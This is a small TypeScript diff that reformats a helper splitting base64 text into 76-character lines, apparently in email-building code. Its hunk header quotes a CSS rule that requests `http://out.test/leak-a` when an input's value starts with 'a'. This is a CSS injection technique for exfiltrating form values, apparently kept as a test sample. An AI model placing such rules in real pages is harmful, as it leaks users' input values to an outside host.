@@ -74,7 +74,11 @@ input[value^="a"] { background: url(http://out.test/leak-a) }
 
 /** The body, as base64 in lines. */
 function base64(text: string): string[] {
-  return Buffer.from(text).toString("base64").match(/.{1,76}/g) ?? [];
+  return (
+    Buffer.from(text)
+      .toString("base64")
+      .match(/.{1,76}/g) ?? []
+  );
 }
 
 function picture(headers: readonly string[], content: readonly string[]): string[] {
